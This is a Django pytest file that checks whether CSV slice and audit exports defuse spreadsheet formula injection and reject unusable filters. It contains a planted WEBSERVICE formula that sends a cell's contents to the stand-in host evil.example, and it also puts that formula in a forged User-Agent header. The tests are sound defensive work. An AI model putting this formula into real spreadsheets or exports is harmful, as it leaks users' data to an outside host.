"""The CSV exports (slices and audit) against spreadsheet formulas, and the slice export's refusal of bad filters."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from slices_admin.slices.export import spreadsheet_safe
from tests.factories import cache_orchestrator, orchestrator_record

pytestmark = pytest.mark.django_db

# Every character a spreadsheet may read as the start of a formula, ASCII and full-width and small forms.
FULL_WIDTH = {"=": "\uff1d", "+": "\uff0b", "-": "\uff0d", "@": "\uff20"}
SMALL = {"=": "\ufe66", "+": "\ufe62", "-": "\ufe63", "@": "\ufe6b"}
MINUS_SIGN = "\u2212"
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", *FULL_WIDTH.values(), *SMALL.values(), MINUS_SIGN]
PLANTED = '1+WEBSERVICE("http://evil.example/?x="&B2)'
NUMBERS = ["-1", "-1.5", "+2", "-0.25e3", "42", ".5", "-.5"]


def csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content[:300]
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_a_cell_that_could_start_a_formula_is_prefixed(start):
    assert spreadsheet_safe(start + PLANTED) == "'" + start + PLANTED
    assert spreadsheet_safe(" " + start + PLANTED).startswith("'")


def test_a_minus_followed_by_a_digit_is_no_longer_let_through():
    assert spreadsheet_safe('-1+WEBSERVICE("http://evil.example/?x="&B2)').startswith("'")
    assert spreadsheet_safe("-2026-12-01").startswith("'")


@pytest.mark.parametrize("number", NUMBERS)
def test_a_cell_that_is_wholly_a_number_stays_a_number(number):
    assert spreadsheet_safe(number) == number


def test_plain_text_is_left_alone():
    assert spreadsheet_safe("Timeout after 30 s") == "Timeout after 30 s"
    assert spreadsheet_safe("\uff11\uff12") == "\uff11\uff12"  # full-width digits start no formula


def test_the_slice_export_prefixes_every_formula_start(as_role):
    records = [orchestrator_record(errorMessage=start + PLANTED) for start in FORMULA_STARTS]
    records.append(orchestrator_record(errorMessage="-7"))
    cache_orchestrator(*records)
    rows = csv_rows(as_role("viewer").get(reverse("slices:export", args=["orchestrator"])))
    exported = {row["errorMessage"] for row in rows}
    for start in FORMULA_STARTS:
        assert "'" + start + PLANTED in exported, repr(start)
    assert "-7" in exported


@pytest.mark.parametrize("start", ["-", "=", "+", "@", FULL_WIDTH["="], FULL_WIDTH["-"], "\t"], ids=repr)
def test_a_user_agent_planted_by_an_anonymous_sign_in_is_defused_in_the_audit_export(start, make_user):
    planted = start + PLANTED
    anonymous = Client(HTTP_USER_AGENT=planted)
    anonymous.post(reverse("login"), {"username": "nobody", "password": "wrong-password"})
    admin = Client()
    admin.force_login(make_user("admin"))
    rows = csv_rows(admin.get(reverse("audit:export", args=["csv"]), {"action": "login_failed"}))
    assert [row["userAgent"] for row in rows] == ["'" + planted]


@pytest.mark.parametrize(
    "params",
    [{"queuedAt_after": "garbage"}, {"hasError": "yes"}, {"attemptAtLeast": "many"}],
    ids=lambda p: next(iter(p)),
)
def test_the_slice_export_refuses_filters_it_cannot_apply(as_role, params):
    cache_orchestrator(orchestrator_record(), orchestrator_record())
    response = as_role("viewer").get(reverse("slices:export", args=["orchestrator"]), params)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    body = response.content.decode()
    name = next(iter(params))
    assert "Nothing exported" in body and name in body
    assert "Back to the list with these filters" in body
